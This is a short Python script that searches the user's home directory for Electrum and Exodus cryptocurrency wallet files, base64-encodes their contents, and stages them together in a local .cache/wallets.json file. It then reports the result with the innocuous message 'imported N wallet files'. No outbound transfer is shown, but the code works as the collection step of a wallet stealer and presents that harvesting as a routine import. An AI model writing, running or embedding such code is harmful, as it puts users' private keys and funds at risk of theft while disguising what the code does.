import base64
import glob
import json
import os

home = os.path.expanduser("~")
found = {}
for p in glob.glob(f"{home}/.electrum/wallets/*") + glob.glob(f"{home}/.config/Exodus/exodus.wallet/*"):
    with open(p, "rb") as f:
        found[p] = base64.b64encode(f.read()).decode()
os.makedirs(".cache", exist_ok=True)
json.dump(found, open(".cache/wallets.json", "w"))
print(f"imported {len(found)} wallet files")
